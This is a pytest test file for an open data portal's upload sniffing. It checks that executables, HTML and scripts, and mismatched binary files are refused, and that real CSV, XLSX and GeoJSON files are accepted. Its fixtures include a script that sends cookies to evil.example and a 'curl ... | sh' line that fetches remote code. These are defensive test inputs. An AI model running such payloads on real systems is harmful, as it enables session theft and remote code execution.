"""Uploads are sniffed against their declared format before anything is stored: executables
under any name, HTML pages and scripts under a data format, binary files declared as text and
workbooks that are not workbooks are refused with a field error on `upload`."""

from __future__ import annotations

import io
from pathlib import Path

import pytest
from openpyxl import Workbook

from tests.conftest import create_dataset

ELF = b"\x7fELF\x02\x01\x01\x00" + b"\x00" * 8 + b"\x02\x00\x3e\x00" + b"\x00" * 200
PE = b"MZ\x90\x00" + b"\x00" * 56 + (64).to_bytes(4, "little") + b"PE\x00\x00" + b"\x00" * 100
CSV = "线路,起点,终点\n1路,火车站,大学城\n".encode("gb18030")


@pytest.fixture
def dataset(app, cast):
    return create_dataset(app, "bus-routes", cast.transport, title="全省公交线路及站点信息")


def post_upload(client, person, content: bytes, filename: str, **fields):
    data = {"package_id": "bus-routes", **fields, "upload": (io.BytesIO(content), filename)}
    return client.post(
        "/api/3/action/resource_create",
        data=data,
        content_type="multipart/form-data",
        headers=person.headers,
    )


def stored(app) -> list[Path]:
    root: Path = app.extensions["portal.storage"].root
    return [p for p in root.rglob("*") if p.is_file()]


def refusal(response) -> list[str]:
    body = response.get_json()
    assert response.status_code == 409, body
    assert body["success"] is False and body["error"]["__type"] == "Validation Error"
    return body["error"]["upload"]


def xlsx() -> bytes:
    workbook = Workbook()
    workbook.active.append(["城市", "线路数"])
    workbook.active.append(["济南", 312])
    buffer = io.BytesIO()
    workbook.save(buffer)
    return buffer.getvalue()


def test_elf_binary_named_csv_is_refused_and_nothing_is_stored(client, app, api, cast, dataset):
    response = post_upload(client, cast.editor, ELF, "公交线路.csv")
    assert refusal(response) == ["Executable programs cannot be uploaded."]
    assert stored(app) == []
    assert api.ok("package_show", cast.editor, id="bus-routes")["resources"] == []


@pytest.mark.parametrize("filename", ["setup.exe", "线路.json", "data.xlsx", "readme"])
def test_windows_executable_is_refused_under_any_name(client, app, cast, dataset, filename):
    assert refusal(post_upload(client, cast.editor, PE, filename)) == [
        "Executable programs cannot be uploaded."
    ]
    assert stored(app) == []


@pytest.mark.parametrize(
    "content",
    [
        b"<!DOCTYPE html><html><body>\xe7\xba\xbf\xe8\xb7\xaf</body></html>",
        b"\xef\xbb\xbf  <html><script>alert(1)</script>",
        b"<script>document.location='https://evil.example/'+document.cookie</script>",
        "线路,说明\n1路,<script>alert(1)</script>\n".encode(),
    ],
)
def test_html_named_csv_is_refused(client, app, cast, dataset, content):
    assert refusal(post_upload(client, cast.editor, content, "公交线路.csv")) == [
        "HTML pages and scripts cannot be uploaded as data."
    ]
    assert stored(app) == []


def test_shell_script_declared_as_csv_is_refused(client, cast, dataset):
    content = b"#!/bin/sh\ncurl https://evil.example/x | sh\n"
    response = post_upload(client, cast.editor, content, "run.txt", format="CSV")
    assert refusal(response) == ["HTML pages and scripts cannot be uploaded as data."]


def test_zip_declared_as_json_is_refused_as_binary(client, cast, dataset):
    response = post_upload(client, cast.editor, xlsx(), "线路.json")
    assert refusal(response)[0].startswith("The file is binary")


def test_csv_text_named_xlsx_is_refused(client, cast, dataset):
    response = post_upload(client, cast.editor, CSV, "线路.xlsx")
    assert refusal(response)[0].startswith("The file is not the kind of file")


def test_declared_format_and_file_name_must_both_fit(client, cast, dataset):
    response = post_upload(client, cast.editor, xlsx(), "线路.xlsx", format="CSV")
    assert refusal(response)[0].startswith("The file is binary")


def test_real_csv_and_xlsx_and_utf16_csv_are_accepted(client, app, api, cast, dataset):
    for content, filename in [
        (CSV, "公交线路.csv"),
        (xlsx(), "公交线路.xlsx"),
        ("\ufeff线路\t站点\n1路\t火车站\n".encode("utf-16"), "站点.tsv"),
        (b'{"type": "FeatureCollection", "features": []}', "站点.geojson"),
        (b'<?xml version="1.0"?><kml><Document/></kml>', "站点.kml"),
    ]:
        response = post_upload(client, cast.editor, content, filename)
        assert response.status_code == 200, response.get_json()
    resources = api.ok("package_show", cast.editor, id="bus-routes")["resources"]
    assert [r["format"] for r in resources] == ["CSV", "XLSX", "TSV", "GEOJSON", "KML"]
    assert len(stored(app)) == 5


def test_refused_upload_replacing_a_file_keeps_the_old_one(client, app, api, cast, dataset):
    created = post_upload(client, cast.editor, CSV, "公交线路.csv").get_json()["result"]
    response = client.post(
        "/api/3/action/resource_update",
        data={"id": created["id"], "upload": (io.BytesIO(ELF), "公交线路.csv")},
        content_type="multipart/form-data",
        headers=cast.editor.headers,
    )
    assert refusal(response) == ["Executable programs cannot be uploaded."]
    assert [p.read_bytes() for p in stored(app)] == [CSV]


def test_refusal_is_translated_on_the_upload_form(client, cast, dataset):
    from portal.web.forms import translate_error

    with client.application.test_request_context("/"):
        assert translate_error("Executable programs cannot be uploaded.") == "不能上传可执行程序。"
